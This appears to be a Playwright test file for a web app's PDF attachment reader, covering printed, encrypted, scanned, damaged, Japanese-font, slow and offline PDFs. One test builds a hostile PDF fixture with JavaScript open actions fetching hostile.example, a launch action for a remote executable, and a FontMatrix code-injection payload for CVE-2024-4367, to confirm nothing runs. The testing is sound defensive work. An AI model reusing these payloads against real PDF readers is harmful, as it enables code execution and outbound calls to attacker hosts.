/**
 * PDFs beside a question, in real Chromium under the page's own policy: printed by a browser, made
 * by hand, encrypted, scanned, damaged, hostile, slow.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page } from "playwright-core";
import { madePdf } from "./pdf-file.ts";
import { stage } from "./stage.ts";
import type { Visitor } from "./visitor.ts";

const stand = stage("none");

const attach = ({ page }: Visitor, name: string, buffer: Buffer): Promise<void> =>
  page.locator("#attach-file").setInputFiles([{ name, mimeType: "application/pdf", buffer }]);

/** Text that the members will read with a question, as it is kept for a reload. */
const kept = ({ page }: Visitor): Promise<string> =>
  page.evaluate(() => {
    const tab = Object.values(sessionStorage).find((value: string) => value.includes("attached"));
    return (JSON.parse(tab ?? "{}") as { draft?: { attached?: { text: string } } }).draft?.attached
      ?.text as string;
  });

/** A PDF as a browser prints it, with embedded parts of fonts and compressed streams. */
async function printed(html: string): Promise<Buffer> {
  const page = await stand.browser.newPage();
  await page.setContent(html);
  const pdf = await page.pdf();
  await page.close();
  return pdf;
}

const sheet = (text: string): string => `<p style="page-break-after: always">${text}</p>`;

test("a printed PDF goes with a question, read here and only as far as it fits", async () => {
  const visitor = await stand.arrive();
  const { page } = visitor;
  await visitor.set("maxRounds", "1");
  const before = stand.site.asked.length;
  assert.ok(!stand.site.asked.some((file) => file.startsWith("pdf-")), "no reader at the start");
  const words = "Größe, naïve — fi, ffl, Ω";
  await attach(visitor, "report.pdf", await printed(`<h1>Report</h1><p>${words}</p>`));
  await page.locator("#attached", { hasText: "report.pdf its one page" }).waitFor();
  assert.ok(stand.site.asked.slice(before).includes("pdf-worker.js"), "the reader is fetched then");
  assert.equal((await kept(visitor)).replaceAll(/\s+/g, " "), `Report ${words}`);
  await page.reload();
  await page.locator("#attached", { hasText: "report.pdf its one page" }).waitFor();
  await visitor.state("ready");
  await visitor.answer("What is it about?");
  assert.equal(
    await page.locator(".about-question").textContent(),
    "With report.pdf: its one page.",
  );

  const long = await printed(
    Array.from({ length: 40 }, (_, at) =>
      sheet(`Page ${at + 1}. ${"one two three ".repeat(60)}`),
    ).join(""),
  );
  await attach(visitor, "long.pdf", long);
  await page.locator("#attached", { hasText: "long.pdf all 4" }).waitFor();
  await visitor.answer("Count the words!");
  assert.match(
    (await page.locator(".about-question").last().textContent()) ?? "",
    /^With long\.pdf: (?:a part of page 1|page 1|pages 1 to \d) of 4\d(?:, and a part of page \d)?; the rest had no room\.$/,
  );
  await visitor.leaveClean();
});

test("a PDF that can't be read says why, and what to do", async () => {
  const visitor = await stand.arrive();
  const { page } = visitor;
  const locked = madePdf({
    pages: ["secret"],
    objects: [
      `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${"5a".repeat(32)}> /U <${"a5".repeat(32)}> >>`,
    ],
    trailer: `/Encrypt 4 0 R /ID [<${"11".repeat(16)}> <${"11".repeat(16)}>]`,
  });
  const whole = madePdf({ pages: ["one"] });
  const cases: [name: string, file: Buffer, said: RegExp][] = [
    ["locked.pdf", locked, /^locked\.pdf is protected by a password\. Open it in a PDF viewer/],
    ["scan.pdf", madePdf({ pages: ["", "", ""] }), /^scan\.pdf has pictures of pages but no text/],
    [
      "scans.pdf",
      madePdf({ pages: Array.from({ length: 3000 }, () => "") }),
      /no text, as scanners/,
    ],
    ["cut.pdf", whole.subarray(0, 40), /^cut\.pdf is damaged, or is no PDF\./],
    ["empty.pdf", Buffer.alloc(0), /^empty\.pdf is damaged, or is no PDF\./],
    ["noise.pdf", Buffer.from("%PDF-1.7\n\u0000\u0001".repeat(500)), /^noise\.pdf is damaged/],
  ];
  const notes = { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("one two") };
  await page.locator("#attach-file").setInputFiles([notes]);
  await page.locator("#attached", { hasText: "notes.txt" }).waitFor();
  for (const [name, file, said] of cases) {
    await attach(visitor, name, file);
    await page.locator(".notice.error", { hasText: name }).waitFor();
    assert.match((await page.locator(".notice.error").textContent()) ?? "", said);
    assert.match((await page.locator("#attached").textContent()) ?? "", /^notes\.txt/, "it stays");
    assert.ok(await page.locator("#ask").isEnabled());
  }
  // A lost end is restored, and a page without text among others is told.
  await attach(visitor, "mended.pdf", whole.subarray(0, whole.indexOf("startxref")));
  await page.locator("#attached", { hasText: "mended.pdf its one page" }).waitFor();
  assert.equal(await kept(visitor), "one");
  await attach(visitor, "mixed.pdf", madePdf({ pages: ["one", "", "three"] }));
  await page.locator("#attached", { hasText: "all 3 pages; 1 of them has no text" }).waitFor();
  await visitor.leaveClean();
});

test("a hostile PDF runs nothing and reaches nobody", async () => {
  const visitor = await stand.arrive();
  const { page } = visitor;
  const code = "app.alert(1); globalThis.hostile = 1; fetch('https://hostile.example/')";
  const action = `<< /S /JavaScript /JS (${code.replace(/[()]/g, "\\$&")}) >>`;
  const hostile = madePdf({
    pages: ["harmless words"],
    catalogue:
      "/OpenAction 4 0 R /AA << /WC 4 0 R >> " +
      "/Names << /JavaScript << /Names [(a) 4 0 R] >> >> " +
      "/URI << /Base (https://hostile.example/) >>",
    objects: [
      action,
      "<< /S /Launch /F (https://hostile.example/run.exe) >>",
      "<< /Length 0 /F << /FS /URL /F (https://hostile.example/stream) >> >>\nstream\n\nendstream",
    ],
    // A matrix that older readers compiled as code (CVE-2024-4367).
    font:
      "<< /Type /Font /Subtype /Type1 /BaseFont /Hostile " +
      "/FontMatrix [1 2 3 4 5 (0\\); globalThis.hostile = 1; //)] " +
      "/Encoding /WinAnsiEncoding /FirstChar 32 /LastChar 33 /Widths [500 500] " +
      "/FontDescriptor << /Type /FontDescriptor /FontName /Hostile /Flags 32 " +
      "/FontFile 6 0 R >> >>",
  });
  await attach(visitor, "hostile.pdf", hostile);
  await page.locator("#attached", { hasText: "hostile.pdf its one page" }).waitFor();
  assert.equal(await kept(visitor), "harmless words");
  assert.equal(await page.evaluate(() => "hostile" in globalThis), false);
  await workerEnds(page);
  await visitor.leaveClean();
});

test("a PDF with an older font of Japan has its text", async () => {
  const visitor = await stand.arrive();
  const { page } = visitor;
  const maps = (): number => stand.site.asked.filter((file) => file === "pdf-cmaps.bin").length;
  assert.equal(maps(), 0);
  const font =
    "<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin /Encoding /90ms-RKSJ-H " +
    "/DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin " +
    "/CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> " +
    "/FontDescriptor << /Type /FontDescriptor /FontName /Ryumin /Flags 4 >> >>] >>";
  // "日本" in Shift JIS.
  const shows = (text: string): string => `BT /F1 12 Tf 72 720 Td <${text}> Tj ET`;
  await attach(visitor, "japan.pdf", madePdf({ pages: ["93fa967b"], font, shows }));
  await page.locator("#attached", { hasText: "japan.pdf its one page" }).waitFor();
  assert.equal(await kept(visitor), "日本");
  assert.equal(maps(), 1, "the maps are fetched once");
  await visitor.leaveClean();
});

test("a slow PDF is cancelled by a press, and a question waits for it", async () => {
  const visitor = await stand.arrive();
  const { page } = visitor;
  const slow = madePdf({ pages: Array.from({ length: 4000 }, (_, at) => `page ${at} `.repeat(8)) });
  await page.locator("#question").fill("What is 347 + 586?");
  await attach(visitor, "slow.pdf", slow);
  const cancel = page.getByRole("button", { name: "Cancel reading slow.pdf" });
  await cancel.waitFor();
  assert.ok(await page.locator("#ask").isDisabled());
  assert.match((await page.locator("#why-not").textContent()) ?? "", /Reading the file/);
  await cancel.click();
  await page.locator("#attached").waitFor({ state: "hidden" });
  assert.equal(await page.evaluate(() => document.activeElement?.id), "attach");
  assert.equal(await page.locator("#question").inputValue(), "What is 347 + 586?");
  await workerEnds(page);
  await visitor.state("ready");
  await visitor.leaveClean();
});

test("the reader of PDFs is kept at its first use, and works with the network off", async () => {
  const visitor = await stand.arrive();
  const { page } = visitor;
  await visitor.offlineCopy();
  await page.context().setOffline(true);
  const one = madePdf({ pages: ["one two three"] });
  await attach(visitor, "one.pdf", one);
  await page.locator(".notice.error", { hasText: "is fetched at its first use" }).waitFor();
  visitor.complaints.length = 0;
  await page.context().setOffline(false);
  await attach(visitor, "one.pdf", one);
  await page.locator("#attached", { hasText: "one.pdf its one page" }).waitFor();
  await page.waitForFunction(async () =>
    Promise.all(
      ["pdf-text.js", "pdf-worker.js"].map((file) =>
        caches.match(new URL(file, document.baseURI), { ignoreSearch: true }),
      ),
    ).then((found) => found.every(Boolean)),
  );
  await page.context().setOffline(true);
  await page.reload();
  await visitor.state("ready");
  await attach(visitor, "again.pdf", one);
  await page.locator("#attached", { hasText: "again.pdf its one page" }).waitFor();
  await visitor.leaveClean();
});

/** Waits until no worker reads PDFs: Chromium reports the end of one some time after it. */
async function workerEnds(page: Page): Promise<void> {
  const reading = () => page.workers().some((worker) => worker.url().includes("pdf-worker"));
  for (let count = 0; reading() && count < 200; count++) await page.waitForTimeout(50);
  assert.ok(!reading(), "the worker still runs");
}
